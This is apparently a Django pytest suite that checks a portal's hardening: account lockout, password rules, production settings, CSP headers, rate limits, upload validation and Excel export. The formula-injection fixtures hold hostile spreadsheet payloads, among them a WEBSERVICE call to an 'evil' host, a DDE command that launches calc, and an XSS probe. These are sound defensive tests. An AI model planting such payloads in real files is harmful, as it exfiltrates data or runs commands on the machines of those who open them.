"""Hardening: login lockout (django-axes), strong passwords, production settings
(``check --deploy``), security headers and CSP without inline script or style, rate limits
on login and report generation, request size and upload checks, and formula injection
neutralised in every Excel exporter."""

from __future__ import annotations

import io
import json
import os
import re
import secrets
import subprocess
import sys
import time
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import django_ratelimit.core
import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth.password_validation import validate_password
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from circles.models import Circle, Project
from evaluation import services as evaluation_services
from evaluation.models import Judge, Submission
from promotion.models import PresentationConference
from qcportal.models import ApiToken, Organisation
from qcportal.tenancy import no_tenant, tenant_scope
from qcportal.uploads import validate_upload
from reports.exporters import exporter_for
from reports.models import ReportRun
from tests.factories import api_token

pytestmark = pytest.mark.django_db

REPO_ROOT = Path(__file__).resolve().parents[2]
TEMPLATES_DIR = REPO_ROOT / "templates"
PASSWORD = "Test-pass-2020!"  # the password of every user of the fixtures (tests/factories.py)
WRONG_PASSWORD = "Wrong-pass-2020!"
CJK = re.compile(r"[\u4e00-\u9fff]")


@pytest.fixture(autouse=True)
def _clean_cache():
    """Rate limits (django-ratelimit) and DRF throttles count in the cache: start empty."""
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def frozen_ratelimit_clock(monkeypatch):
    """django-ratelimit counts in fixed windows; freeze its clock so that a test's requests
    never straddle a window boundary (which would reset the count and make it flaky)."""
    now = time.time()
    monkeypatch.setattr(django_ratelimit.core, "time", SimpleNamespace(time=lambda: now))


def login_post(client, username, password, **extra):
    return client.post(reverse("login"), {"username": username, "password": password}, **extra)


def is_logged_in(client) -> bool:
    return "_auth_user_id" in client.session


def new_runs() -> int:
    with no_tenant():
        return ReportRun.objects.count()


# --- Login lockout (django-axes) ---------------------------------------------------------


def _json_or_empty(response) -> dict:
    try:
        return response.json()
    except ValueError:
        return {}


def fail_five_times(client, username):
    responses = [login_post(client, username, WRONG_PASSWORD) for _ in range(settings.AXES_FAILURE_LIMIT)]
    for response in responses[:-1]:
        # The first failures show the login form again with an error, not a lockout.
        assert response.status_code == 200
        assert 'name="password"' in response.content.decode()
    assert not is_logged_in(client)
    return responses


def assert_lockout_page(response):
    assert response.status_code == 429
    body = response.content.decode()
    assert 'data-testid="lockout"' in body
    assert "账户已临时锁定" in body
    assert "registration/lockout.html" in [t.name for t in response.templates]


def test_five_failed_logins_lock_the_account_even_for_the_right_password(network, client):
    assert settings.AXES_FAILURE_LIMIT == 5
    username = network.users.pa_staff.username
    fail_five_times(client, username)
    response = login_post(client, username, PASSWORD)
    assert_lockout_page(response)
    assert not is_logged_in(client)


def test_lockout_does_not_block_another_user_from_the_same_address(network, client):
    fail_five_times(client, network.users.pa_staff.username)
    assert_lockout_page(login_post(client, network.users.pa_staff.username, PASSWORD))
    other = Client()  # same REMOTE_ADDR (127.0.0.1)
    response = login_post(other, network.users.pa_admin.username, PASSWORD)
    assert response.status_code == 302
    assert response["Location"] == reverse("home")
    assert is_logged_in(other)


def test_lockout_also_refuses_the_api_token(network, client):
    username = network.users.pa_staff.username
    fail_five_times(client, username)
    response = APIClient().post(reverse("api:token"), {"username": username, "password": PASSWORD})
    assert "token" not in _json_or_empty(response)
    assert not ApiToken.objects.filter(user=network.users.pa_staff).exists()
    assert response.status_code == 429  # the lockout answer, not "wrong credentials"


def test_failed_api_token_requests_lock_the_account(network):
    username = network.users.pa_staff.username
    api = APIClient()
    for _ in range(settings.AXES_FAILURE_LIMIT):
        response = api.post(reverse("api:token"), {"username": username, "password": WRONG_PASSWORD})
        assert response.status_code in (400, 429)
    refused = api.post(reverse("api:token"), {"username": username, "password": PASSWORD})
    assert "token" not in _json_or_empty(refused)
    assert not ApiToken.objects.filter(user=network.users.pa_staff).exists()
    # The failures counted through the API lock the login page too.
    assert_lockout_page(login_post(Client(), username, PASSWORD))
    assert refused.status_code == 429  # the lockout answer, not "wrong credentials"


# --- Strong passwords ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("password", "code"),
    [
        ("Xk#9vLq2m", "password_too_short"),  # 9 characters: the minimum is 10
        ("Ab1!", "password_too_short"),
        ("password123", "password_too_common"),
        ("qwertyuiop", "password_too_common"),
        ("73914650288", "password_entirely_numeric"),
    ],
)
def test_weak_passwords_are_refused(password, code):
    with pytest.raises(ValidationError) as excinfo:
        validate_password(password)
    assert code in [error.code for error in excinfo.value.error_list]


def test_minimum_length_is_ten_and_strong_passwords_pass():
    assert validate_password("Xk#9vLq2mZ") is None  # exactly 10 characters
    assert validate_password(PASSWORD) is None


def test_password_similar_to_the_username_is_refused(network):
    user = network.users.pa_staff
    with pytest.raises(ValidationError) as excinfo:
        validate_password("pa_staff_1", user=user)
    assert "password_too_similar" in [error.code for error in excinfo.value.error_list]


# --- Production settings ---------------------------------------------------------------


def production_env(tmp_path, **overrides) -> dict:
    env = {
        key: value
        for key, value in os.environ.items()
        if key
        not in {
            "DJANGO_SETTINGS_MODULE",
            "DEBUG",
            "SECRET_KEY",
            "ALLOWED_HOSTS",
            "DATABASE_URL",
            "REDIS_URL",
            "DATABASE_POOL",
            "DATABASE_REPLICA_URL",
            "CONN_MAX_AGE",
            "SECURE_SSL_REDIRECT",
            "SECURE_HSTS_SECONDS",
            "CSRF_TRUSTED_ORIGINS",
            "DJANGO_ALLOW_ASYNC_UNSAFE",  # set by the browser tests' conftest; never in production
        }
    }
    env.update(
        DJANGO_SETTINGS_MODULE="qcportal.settings.production",
        SECRET_KEY=secrets.token_urlsafe(64),
        ALLOWED_HOSTS="qc.example.cn",
        DATABASE_URL=f"sqlite:///{tmp_path / 'x.sqlite3'}",
        STATIC_ROOT=str(tmp_path / "static"),
        REDIS_URL="redis://127.0.0.1:6379/15",  # required in production; never connected by these checks
    )
    env.update(overrides)
    return {key: value for key, value in env.items() if value is not None}


def test_check_deploy_is_clean_with_production_settings(tmp_path):
    env = production_env(tmp_path)
    assert len(env["SECRET_KEY"]) >= 60
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=REPO_ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_production_settings_secure_cookies_ssl_and_hsts(tmp_path):
    code = (
        "import json\n"
        "from django.conf import settings as s\n"
        "print(json.dumps({k: getattr(s, k) for k in ("
        "'DEBUG', 'SESSION_COOKIE_SECURE', 'CSRF_COOKIE_SECURE', 'SESSION_COOKIE_HTTPONLY',"
        "'SECURE_SSL_REDIRECT', 'SECURE_HSTS_SECONDS', 'SECURE_CONTENT_TYPE_NOSNIFF',"
        "'X_FRAME_OPTIONS', 'ALLOWED_HOSTS')}))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        cwd=REPO_ROOT,
        env=production_env(tmp_path),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    values = json.loads(result.stdout.strip().splitlines()[-1])
    assert values["DEBUG"] is False
    assert values["SESSION_COOKIE_SECURE"] is True
    assert values["CSRF_COOKIE_SECURE"] is True
    assert values["SESSION_COOKIE_HTTPONLY"] is True
    assert values["SECURE_SSL_REDIRECT"] is True
    assert values["SECURE_HSTS_SECONDS"] > 0
    assert values["SECURE_CONTENT_TYPE_NOSNIFF"] is True
    assert values["X_FRAME_OPTIONS"] == "DENY"
    assert values["ALLOWED_HOSTS"] == ["qc.example.cn"]


def test_production_settings_refuse_to_start_without_a_secret_key(tmp_path):
    result = subprocess.run(
        [sys.executable, "manage.py", "check"],
        cwd=REPO_ROOT,
        env=production_env(tmp_path, SECRET_KEY=None),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode != 0
    assert "SECRET_KEY" in result.stderr


def test_production_settings_refuse_to_start_without_redis(tmp_path):
    """Issue 10 item 4: production needs Redis (Celery's broker, the cache shared by every
    process); the demo's settings still run without it (tests/security/test_deployment.py)."""
    result = subprocess.run(
        [sys.executable, "manage.py", "check"],
        cwd=REPO_ROOT,
        env=production_env(tmp_path, REDIS_URL=None),
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode != 0
    assert "ImproperlyConfigured" in result.stderr and "REDIS_URL is required" in result.stderr


# --- Security headers and CSP --------------------------------------------------------


class InlineCodeFinder(HTMLParser):
    """Collects what a strict CSP would block: inline scripts, style attributes and
    elements, inline event handlers and javascript: URLs."""

    EVENT_ATTRIBUTE = re.compile(r"^on[a-z]+$")

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts = 0

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "script":
            self.scripts += 1
            if "src" not in values and (values.get("type") or "").lower() != "application/json":
                self.problems.append(f"inline <script {attrs}>")
        if tag == "style":
            self.problems.append("<style> element")
        for name, value in attrs:
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>: {value!r}")
            if self.EVENT_ATTRIBUTE.match(name):
                self.problems.append(f"event handler {name} on <{tag}>")
            if value and value.strip().lower().startswith("javascript:"):
                self.problems.append(f"javascript: URL in {name} on <{tag}>")

    handle_startendtag = handle_starttag


def csp_directives(header: str) -> dict[str, list[str]]:
    directives = {}
    for part in header.split(";"):
        tokens = part.split()
        if tokens:
            directives[tokens[0].lower()] = tokens[1:]
    return directives


def assert_hardened_html_response(response):
    assert response.status_code == 200
    csp = response.headers.get("Content-Security-Policy")
    assert csp, "Content-Security-Policy header missing"
    directives = csp_directives(csp)
    assert "'self'" in directives.get("script-src", [])
    assert "'unsafe-inline'" not in csp
    assert "'unsafe-eval'" not in directives.get("script-src", [])
    assert "'self'" in directives.get("default-src", [])
    assert response.headers.get("X-Content-Type-Options") == "nosniff"
    assert response.headers.get("X-Frame-Options") == "DENY"
    assert response.headers.get("Referrer-Policy")
    assert response.headers.get("Permissions-Policy")
    assert "camera=()" in response.headers["Permissions-Policy"]
    html = response.content.decode()
    finder = InlineCodeFinder()
    finder.feed(html)
    finder.close()
    assert finder.scripts > 0  # the page does load its scripts (from files)
    assert finder.problems == []
    assert " style=" not in html


def test_login_page_has_security_headers_and_no_inline_code(client):
    assert_hardened_html_response(client.get(reverse("login")))


@pytest.mark.parametrize(
    "screen",
    ["home", "campaign-detail", "campaign-forms", "submission-detail", "organisation-list"],
)
def test_pages_have_security_headers_and_no_inline_code(network, login, screen):
    urls = {
        "home": reverse("home"),
        "campaign-detail": "/campaigns/CAQ-T/",
        "campaign-forms": reverse("reports:campaign-forms", args=["CAQ-T"]),
        "submission-detail": reverse("evaluation:submission-detail", args=[network.submissions[0].pk]),
        "organisation-list": reverse("organisation-list"),
    }
    client = login(network.users.pa_staff)
    assert_hardened_html_response(client.get(urls[screen]))


def test_templates_have_no_inline_script_or_style():
    """Browser templates (not the WeasyPrint PDF templates) carry no inline script or style."""
    pdf_templates = (TEMPLATES_DIR / "reports" / "pdf", TEMPLATES_DIR / "evaluation" / "pdf")
    problems = []
    templates = [
        path for path in TEMPLATES_DIR.rglob("*.html") if not any(d in path.parents for d in pdf_templates)
    ]
    assert len(templates) > 10
    for path in templates:
        text = path.read_text(encoding="utf-8")
        name = path.relative_to(REPO_ROOT)
        for match in re.finditer(r"<script\b([^>]*)>", text, re.IGNORECASE):
            attrs = match.group(1)
            if not re.search(r"\bsrc\s*=", attrs) and not re.search(
                r"""type\s*=\s*["']application/json["']""", attrs
            ):
                problems.append(f"{name}: inline {match.group(0)}")
        if re.search(r"\sstyle\s*=", text, re.IGNORECASE):
            problems.append(f"{name}: style attribute")
        if re.search(r"<style\b", text, re.IGNORECASE):
            problems.append(f"{name}: <style> element")
        if re.search(r"\son(click|load|submit|change|input|error|focus|blur|key\w+|mouse\w+)\s*=", text):
            problems.append(f"{name}: inline event handler")
    assert problems == []


# --- Rate limits ------------------------------------------------------------------------


def test_login_is_rate_limited_per_address(network, frozen_ratelimit_clock):
    assert settings.RATE_LIMITS["login"] == "20/m"
    client = Client()
    for n in range(20):  # distinct unknown users: no lockout, only the rate limit applies
        response = login_post(client, f"ghost{n}", WRONG_PASSWORD)
        assert response.status_code == 200, n
    limited = login_post(client, "ghost-final", WRONG_PASSWORD)
    assert limited.status_code == 429
    assert "操作过于频繁，请稍后再试。" in limited.content.decode()
    # Even the right password of a real user is refused from this address for now.
    refused = login_post(client, network.users.pa_staff.username, PASSWORD)
    assert refused.status_code == 429
    assert not is_logged_in(client)
    # The page itself can still be shown, and another address is not limited.
    assert client.get(reverse("login")).status_code == 200
    other = login_post(Client(REMOTE_ADDR="10.20.30.40"), network.users.pa_staff.username, PASSWORD)
    assert other.status_code == 302


def test_api_token_is_rate_limited(network):
    api = APIClient()
    for n in range(20):
        response = api.post(reverse("api:token"), {"username": f"ghost{n}", "password": WRONG_PASSWORD})
        assert response.status_code == 400, n
    limited = api.post(reverse("api:token"), {"username": "pa_staff", "password": PASSWORD})
    assert limited.status_code == 429
    assert "Retry-After" in limited.headers
    assert not ApiToken.objects.filter(user=network.users.pa_staff).exists()


def test_report_generation_is_rate_limited_per_user(network, login, frozen_ratelimit_clock):
    """The 11th generation within a minute answers 429 (Chinese) and starts no run.

    Runs are enqueued on commit; the test transaction never commits, so the runs are only
    recorded (not rendered), which keeps the test fast."""
    assert settings.RATE_LIMITS["reports"] == "10/m"
    client = login(network.users.pa_staff)
    url = reverse("reports:campaign-forms", args=["CAQ-T"])
    data = {"form": "annex3", "file_format": "xlsx", "organisation": "PA"}
    before = new_runs()
    for n in range(10):
        response = client.post(url, data)
        assert response.status_code == 302, (n, response.status_code)
    assert new_runs() == before + 10
    limited = client.post(url, data)
    assert limited.status_code == 429
    assert "操作过于频繁，请稍后再试。" in limited.content.decode()
    assert new_runs() == before + 10
    # The limit is per user: somebody else can still generate.
    other = login(network.users.caq_staff)
    assert other.post(url, data).status_code == 302
    assert new_runs() == before + 11


def test_report_run_api_create_is_throttled(network):
    assert settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"]["reports"] == "10/m"
    api = APIClient()
    token = api_token(network.users.pa_staff)
    api.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    data = {"campaign": "CAQ-T", "form": "annex3", "file_format": "xlsx", "organisation": "PA"}
    before = new_runs()
    for n in range(10):
        response = api.post(reverse("api:reportrun-list"), data, format="json")
        assert response.status_code == 202, (n, response.content)
    limited = api.post(reverse("api:reportrun-list"), data, format="json")
    assert limited.status_code == 429
    assert "Retry-After" in limited.headers
    assert CJK.search(limited.json()["detail"]), limited.json()
    assert new_runs() == before + 10
    # Reading is not throttled.
    assert api.get(reverse("api:reportrun-list")).status_code == 200


# --- Request size -----------------------------------------------------------------------


def test_request_above_the_size_limit_is_refused_with_413(network, login):
    too_big = str(settings.MAX_REQUEST_BYTES + 1)
    anonymous = Client().generic(
        "POST", reverse("login"), b"x", content_type="application/octet-stream", CONTENT_LENGTH=too_big
    )
    assert anonymous.status_code == 413
    assert "请求过大" in anonymous.content.decode()
    client = login(network.users.e1_coord)
    url = reverse("evaluation:report-upload", args=[network.submissions[0].pk])
    response = client.generic(
        "POST", url, b"x", content_type="multipart/form-data; boundary=xyz", CONTENT_LENGTH=too_big
    )
    assert response.status_code == 413
    assert "请求过大" in response.content.decode()
    with no_tenant():
        assert not Submission.objects.get(pk=network.submissions[0].pk).result_report


# --- Uploads ----------------------------------------------------------------------------


def minimal_pdf() -> bytes:
    """A small valid one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def minimal_docx() -> bytes:
    """A minimal Word document: a zip with [Content_Types].xml, _rels/.rels, word/document.xml."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as docx:
        docx.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        docx.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        docx.writestr(
            "word/document.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>成果报告</w:t></w:r></w:p></w:body></w:document>",
        )
    return buffer.getvalue()


def stored_files() -> set[Path]:
    root = Path(settings.MEDIA_ROOT)
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


def upload(client, submission, name, content, content_type):
    url = reverse("evaluation:report-upload", args=[submission.pk])
    return client.post(
        url, {"result_report": SimpleUploadedFile(name, content, content_type=content_type)}, follow=True
    )


def result_report_of(submission):
    with no_tenant():
        return Submission.objects.get(pk=submission.pk).result_report


@pytest.mark.parametrize(
    ("name", "make", "content_type", "suffix"),
    [
        ("报告.pdf", minimal_pdf, "application/pdf", ".pdf"),
        (
            "report.docx",
            minimal_docx,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ".docx",
        ),
    ],
)
def test_real_pdf_and_docx_are_accepted_and_stored(network, login, name, make, content_type, suffix):
    submission = network.submissions[0]
    content = make()
    response = upload(login(network.users.e1_coord), submission, name, content, content_type)
    assert response.status_code == 200
    assert "成果报告已上传。" in response.content.decode()
    report = result_report_of(submission)
    assert report and report.name.endswith(suffix)
    with report.open("rb") as stored:
        assert stored.read() == content


def test_text_file_disguised_as_pdf_is_refused(network, login):
    submission = network.submissions[0]
    before = stored_files()
    response = upload(
        login(network.users.e1_coord),
        submission,
        "report.pdf",
        b"This is plain text pretending to be a PDF.\n" * 10,
        "application/pdf",
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "文件类型不符合要求" in body
    assert "成果报告已上传。" not in body
    assert not result_report_of(submission)
    assert stored_files() == before


def test_upload_over_the_size_limit_is_refused(network, login, monkeypatch):
    monkeypatch.setattr(evaluation_services, "RESULT_REPORT_MAX_BYTES", 1024)
    submission = network.submissions[0]
    content = minimal_pdf() + b"%" + b"0" * 4096 + b"\n"
    assert len(content) > 1024
    before = stored_files()
    response = upload(login(network.users.e1_coord), submission, "report.pdf", content, "application/pdf")
    body = response.content.decode()
    assert "文件过大" in body
    assert "成果报告已上传。" not in body
    assert not result_report_of(submission)
    assert stored_files() == before


def test_another_enterprise_cannot_upload_to_the_submission(network, login):
    submission = network.submissions[0]
    before = stored_files()
    client = login(network.users.e4_coord)
    url = reverse("evaluation:report-upload", args=[submission.pk])
    response = client.post(
        url, {"result_report": SimpleUploadedFile("r.pdf", minimal_pdf(), content_type="application/pdf")}
    )
    assert response.status_code in (403, 404)
    assert not result_report_of(submission)
    assert stored_files() == before


def test_validate_upload_limits_size_and_sniffs_the_type():
    allowed = evaluation_services.RESULT_REPORT_TYPES
    limit = evaluation_services.RESULT_REPORT_MAX_BYTES
    assert limit == 20 * 1024 * 1024
    pdf = minimal_pdf()
    assert validate_upload(SimpleUploadedFile("a.pdf", pdf), allowed=allowed, max_bytes=limit) == "pdf"
    # The name and the declared type are not trusted: the bytes decide.
    assert (
        validate_upload(
            SimpleUploadedFile("a.txt", pdf, content_type="text/plain"), allowed=allowed, max_bytes=limit
        )
        == "pdf"
    )
    assert validate_upload(
        SimpleUploadedFile("a.docx", minimal_docx()), allowed=allowed, max_bytes=limit
    ) == ("docx")
    at_limit = SimpleUploadedFile("big.pdf", pdf + b"0" * (limit - len(pdf)))
    assert validate_upload(at_limit, allowed=allowed, max_bytes=limit) == "pdf"
    over_limit = SimpleUploadedFile("big.pdf", pdf + b"0" * (limit - len(pdf) + 1))
    with pytest.raises(ValidationError, match="文件过大"):
        validate_upload(over_limit, allowed=allowed, max_bytes=limit)
    for name, content, content_type in (
        ("report.pdf", b"just text, not a PDF at all", "application/pdf"),
        ("report.docx", b"<html><script>alert(1)</script></html>", "application/msword"),
        ("report.pdf", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "application/pdf"),
    ):
        with pytest.raises(ValidationError, match="文件类型不符合要求"):
            validate_upload(
                SimpleUploadedFile(name, content, content_type=content_type), allowed=allowed, max_bytes=limit
            )
    with pytest.raises(ValidationError, match="请选择要上传的文件"):
        validate_upload(SimpleUploadedFile("empty.pdf", b""), allowed=allowed, max_bytes=limit)


# --- Formula injection in every Excel exporter ------------------------------------------

ENTERPRISE = '=HYPERLINK("http://evil")'
CIRCLE = "+cmd"
ASSESSMENT = "@SUM(A1)"
CONTACT = "-2+3"
JUDGE = "=1+1"
PROJECT = '=WEBSERVICE("http://evil/?"&A1)'
ADDRESS = "=cmd|' /C calc'!A0"
DEPARTMENT = "@部门"
MOBILE = "+8613800000000"
PLACE = "-1+1 会议中心"
WORK_UNIT = "@工作单位"
CERTIFICATE = "-QCPS-001"
JUDGE_MOBILE = "+8613900000000"

EXPECTED_CELLS = {
    "annex1": {ENTERPRISE, CIRCLE, PROJECT, ADDRESS, DEPARTMENT, CONTACT, MOBILE},
    "annex3": {PLACE},
    "annex4": {ENTERPRISE, CIRCLE, JUDGE, WORK_UNIT, CERTIFICATE, JUDGE_MOBILE},
    "annex5": {f"{ENTERPRISE}/{CIRCLE}", ASSESSMENT},
}


@pytest.fixture
def malicious_network(network):
    """The network with user-controlled text starting with =, +, - and @."""
    s1 = network.submissions[0]
    with no_tenant():
        Organisation.objects.filter(pk=network.e1.pk).update(name=ENTERPRISE)
        Organisation.objects.filter(pk=network.pa.pk).update(contact_person=CONTACT)
        Circle.objects.filter(pk=s1.circle_id).update(name=CIRCLE)
        Project.objects.filter(pk=s1.project_id).update(title=PROJECT)
        Submission.objects.filter(pk=s1.pk).update(
            panel_assessment=ASSESSMENT,
            contact_person=CONTACT,
            address=ADDRESS,
            contact_department=DEPARTMENT,
            contact_mobile=MOBILE,
        )
        Judge.objects.filter(pk=network.judges[0].pk).update(
            name=JUDGE, work_unit=WORK_UNIT, certificate_number=CERTIFICATE, mobile=JUDGE_MOBILE
        )
        assert PresentationConference.objects.filter(organisation=network.pa).update(place=PLACE) == 1
    for organisation in (network.e1, network.pa):
        organisation.refresh_from_db()
    return network


@pytest.mark.parametrize("form", ["annex1", "annex3", "annex4", "annex5"])
def test_formula_like_text_is_written_as_text(malicious_network, form):
    network = malicious_network
    with tenant_scope(network.caq):
        rendered = exporter_for(form)(campaign=network.campaign, organisation=network.pa).render("xlsx")
    # No formula element anywhere in the worksheets' XML.
    with zipfile.ZipFile(io.BytesIO(rendered.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = openpyxl.load_workbook(io.BytesIO(rendered.content))
    found: dict[str, list] = {}
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    assert cell.quotePrefix is True, (ws.title, cell.coordinate, cell.value)
                    found.setdefault(cell.value, []).append(cell)
    for value in EXPECTED_CELLS[form]:
        assert value in found, (form, value, sorted(found))
        for cell in found[value]:
            assert cell.value == value and cell.data_type == "s" and cell.quotePrefix is True


def test_client_address_behind_trusted_proxies(rf, settings):
    """Rate limits key on the client's address, also behind a reverse proxy (PROXY_COUNT)."""
    from qcportal.middleware import client_ip

    request = rf.get("/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="203.0.113.9, 10.0.0.1")
    settings.PROXY_COUNT = 0
    assert client_ip(request) == "10.0.0.2"
    settings.PROXY_COUNT = 1
    assert client_ip(request) == "10.0.0.1"
    settings.PROXY_COUNT = 2
    assert client_ip(request) == "203.0.113.9"
    settings.PROXY_COUNT = 3  # fewer hops than proxies: do not trust the header
    assert client_ip(request) == "10.0.0.2"
